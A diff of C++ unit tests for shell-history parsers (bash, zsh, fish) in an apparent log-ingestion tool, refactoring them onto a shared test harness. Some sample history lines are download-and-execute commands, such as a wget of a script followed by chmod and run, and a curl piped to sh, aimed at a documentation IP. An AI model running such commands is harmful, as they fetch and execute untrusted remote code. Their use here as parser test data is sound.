@@ -5,42 +5,21 @@
 
 #include "ingest/event_json.h"
 #include "ingest/formats/registry.h"
+#include "support/line_harness.h"
 
 namespace shodo::ingest {
 namespace {
 
-struct History {
-  History(std::string_view format, std::string path_in) : path(std::move(path_in)) {
-    const FormatInfo* f = FormatRegistry::instance().find(format);
-    EXPECT_NE(f, nullptr) << format;
-    parser = f->make();
-    file.path = path;
-    ctx.file = &file;
-    ctx.arena = &arena;
-  }
-  LineResult parse(std::string_view line) {
-    ev.clear();
-    ev.line = ++line_no;
-    ev.raw = line;
-    ev.kind = LogKind::shell_history;
-    ctx.error = {};
-    return parser->parse(line, ev, ctx);
-  }
-  std::string time() const { return ev.has_time() ? format_utc(ev.time) : "none"; }
+using shodo::testing::detect;
+using shodo::testing::ParserHarness;
 
-  std::string path;
-  std::unique_ptr<LineParser> parser;
-  FileContext file;
-  Arena arena;
-  ParseContext ctx;
-  Event ev;
-  uint64_t line_no = 0;
+// A history file at `path`; histories carry no zone.
+struct History : ParserHarness {
+  History(std::string_view format, std::string_view path) : ParserHarness(format, "", path) {}
 };
 
 std::string chosen(std::string_view path) {
-  FileContext file;
-  file.path = path;
-  return detect_format({"ls", "id"}, file).choice.name;
+  return detect({"ls", "id"}, path, 0, "").choice.name;
 }
 
 TEST(ShellHistoryNames, ChosenByFileName) {
@@ -86,32 +65,32 @@ TEST(ShellHistoryNames, UserFromPath) {
 
 TEST(ShellHistoryBash, StampsTimeTheLinesAfterThem) {
   History h("bash_history", "/home/alice/.bash_history");
-  ASSERT_EQ(h.parse("ls -la"), LineResult::event);
-  EXPECT_EQ(h.time(), "none");
+  ASSERT_EQ(h.feed("ls -la"), LineResult::event);
+  EXPECT_EQ(h.time(), "<none>");
   EXPECT_EQ(h.ev.command, "ls -la");
   EXPECT_EQ(h.ev.message, "ls -la");
   EXPECT_EQ(h.ev.user, "alice");
-  EXPECT_EQ(h.parse("#1700000000"), LineResult::meta);
-  ASSERT_EQ(h.parse("wget http://203.0.113.66/x.sh"), LineResult::event);
+  EXPECT_EQ(h.feed("#1700000000"), LineResult::meta);
+  ASSERT_EQ(h.feed("wget http://203.0.113.66/x.sh"), LineResult::event);
   EXPECT_EQ(h.time(), "2023-11-14T22:13:20Z");
   EXPECT_FALSE(h.ev.offset_assumed);
   EXPECT_EQ(h.ev.duration_us, -1);
-  ASSERT_EQ(h.parse("chmod +x x.sh"), LineResult::event);  // same entry, or untimed after it
+  ASSERT_EQ(h.feed("chmod +x x.sh"), LineResult::event);  // same entry, or untimed after it
   EXPECT_EQ(h.time(), "2023-11-14T22:13:20Z");
-  EXPECT_EQ(h.parse("#+1700000060"), LineResult::meta);  // tcsh's form
-  ASSERT_EQ(h.parse("./x.sh"), LineResult::event);
+  EXPECT_EQ(h.feed("#+1700000060"), LineResult::meta);  // tcsh's form
+  ASSERT_EQ(h.feed("./x.sh"), LineResult::event);
   EXPECT_EQ(h.time(), "2023-11-14T22:14:20Z");
   // Comments typed at the prompt are commands, not stamps.
-  ASSERT_EQ(h.parse("# not a stamp"), LineResult::event);
-  ASSERT_EQ(h.parse("#17000x"), LineResult::event);
+  ASSERT_EQ(h.feed("# not a stamp"), LineResult::event);
+  ASSERT_EQ(h.feed("#17000x"), LineResult::event);
   // bash bytes are never zsh-decoded.
-  ASSERT_EQ(h.parse("echo \xE3\x83\xBC"), LineResult::event);
+  ASSERT_EQ(h.feed("echo \xE3\x83\xBC"), LineResult::event);
   EXPECT_EQ(h.ev.command, "echo \xE3\x83\xBC");
 }
 
 TEST(ShellHistoryBash, CloneKeepsThePendingStamp) {
   History h("bash_history", "/root/.bash_history");
-  EXPECT_EQ(h.parse("#1700000000"), LineResult::meta);
+  EXPECT_EQ(h.feed("#1700000000"), LineResult::meta);
   auto copy = h.parser->clone();
   Event ev;
   ev.raw = "id";
@@ -122,60 +101,60 @@ TEST(ShellHistoryBash, CloneKeepsThePendingStamp) {
 
 TEST(ShellHistoryZsh, ExtendedEntriesAndContinuations) {
   History h("zsh_history", "/home/bob/.zsh_history");
-  ASSERT_EQ(h.parse(": 1700000000:5;sudo -i"), LineResult::event);
+  ASSERT_EQ(h.feed(": 1700000000:5;sudo -i"), LineResult::event);
   EXPECT_EQ(h.time(), "2023-11-14T22:13:20Z");
   EXPECT_EQ(h.ev.duration_us, 5000000);
   EXPECT_EQ(h.ev.command, "sudo -i");
   EXPECT_EQ(h.ev.user, "bob");
 
-  ASSERT_EQ(h.parse(": 1700000100:0;for h in a b\\"), LineResult::event);
+  ASSERT_EQ(h.feed(": 1700000100:0;for h in a b\\"), LineResult::event);
   EXPECT_EQ(h.ev.command, "for h in a b");
-  ASSERT_EQ(h.parse(": 1700000999:0;do ssh $h\\"), LineResult::event);  // continued, not a stamp
+  ASSERT_EQ(h.feed(": 1700000999:0;do ssh $h\\"), LineResult::event);  // continued, not a stamp
   EXPECT_EQ(h.ev.command, ": 1700000999:0;do ssh $h");
   EXPECT_EQ(h.time(), "2023-11-14T22:15:00Z");
   EXPECT_EQ(h.ev.duration_us, -1);
-  ASSERT_EQ(h.parse("done"), LineResult::event);
+  ASSERT_EQ(h.feed("done"), LineResult::event);
   EXPECT_EQ(h.ev.command, "done");
   EXPECT_EQ(h.time(), "2023-11-14T22:15:00Z");
 
   // zsh writes some bytes "metafied": 0x83 then the byte XOR 0x20.
-  ASSERT_EQ(h.parse(": 1700000200:0;echo \xE3\x83\xA3\xBC"), LineResult::event);
+  ASSERT_EQ(h.feed(": 1700000200:0;echo \xE3\x83\xA3\xBC"), LineResult::event);
   EXPECT_EQ(h.ev.command, "echo \xE3\x83\xBC");
-  ASSERT_EQ(h.parse("plain line"), LineResult::event);
+  ASSERT_EQ(h.feed("plain line"), LineResult::event);
   EXPECT_EQ(h.ev.duration_us, -1);
-  ASSERT_EQ(h.parse(": 17x:0;odd"), LineResult::event);
+  ASSERT_EQ(h.feed(": 17x:0;odd"), LineResult::event);
   EXPECT_EQ(h.ev.command, ": 17x:0;odd");
 }
 
 TEST(ShellHistoryFish, EntriesCiteTheirCommandLine) {
   History h("fish_history", "/home/dave/.local/share/fish/fish_history");
-  EXPECT_EQ(h.parse("- cmd: curl -fsSL http://203.0.113.66/i | sh"), LineResult::meta);
-  ASSERT_EQ(h.parse("  when: 1700000000"), LineResult::event);
+  EXPECT_EQ(h.feed("- cmd: curl -fsSL http://203.0.113.66/i | sh"), LineResult::meta);
+  ASSERT_EQ(h.feed("  when: 1700000000"), LineResult::event);
   EXPECT_EQ(h.ev.line, 1u);
   EXPECT_EQ(h.ev.raw, "- cmd: curl -fsSL http://203.0.113.66/i | sh");
   EXPECT_EQ(h.ev.command, "curl -fsSL http://203.0.113.66/i | sh");
   EXPECT_EQ(h.time(), "2023-11-14T22:13:20Z");
   EXPECT_EQ(h.ev.user, "dave");
-  EXPECT_EQ(h.parse("  paths:"), LineResult::meta);
-  EXPECT_EQ(h.parse("    - /tmp/i"), LineResult::meta);
+  EXPECT_EQ(h.feed("  paths:"), LineResult::meta);
+  EXPECT_EQ(h.feed("    - /tmp/i"), LineResult::meta);
 
-  EXPECT_EQ(h.parse("- cmd: echo a\\nb \\\\ c"), LineResult::meta);
-  ASSERT_EQ(h.parse("  when: 1700000001"), LineResult::event);
+  EXPECT_EQ(h.feed("- cmd: echo a\\nb \\\\ c"), LineResult::meta);
+  ASSERT_EQ(h.feed("  when: 1700000001"), LineResult::event);
   EXPECT_EQ(h.ev.command, "echo a\nb \\ c");
 
   // An entry cut before its when: reported untimed when the next one starts.
-  EXPECT_EQ(h.parse("- cmd: first"), LineResult::meta);
-  ASSERT_EQ(h.parse("- cmd: second"), LineResult::event);
+  EXPECT_EQ(h.feed("- cmd: first"), LineResult::meta);
+  ASSERT_EQ(h.feed("- cmd: second"), LineResult::event);
   EXPECT_EQ(h.ev.line, 7u);
   EXPECT_EQ(h.ev.command, "first");
   EXPECT_FALSE(h.ev.has_time());
-  ASSERT_EQ(h.parse("  when: 1700000002"), LineResult::event);
+  ASSERT_EQ(h.feed("  when: 1700000002"), LineResult::event);
   EXPECT_EQ(h.ev.line, 8u);
   EXPECT_EQ(h.ev.command, "second");
 
-  EXPECT_EQ(h.parse("  when: 1700000003"), LineResult::meta);  // no entry open
-  EXPECT_EQ(h.parse("garbage"), LineResult::bad);
-  EXPECT_FALSE(h.ctx.error.empty());
+  EXPECT_EQ(h.feed("  when: 1700000003"), LineResult::meta);  // no entry open
+  EXPECT_EQ(h.feed("garbage"), LineResult::bad);
+  EXPECT_FALSE(h.error().empty());
 }
 
 }  // namespace
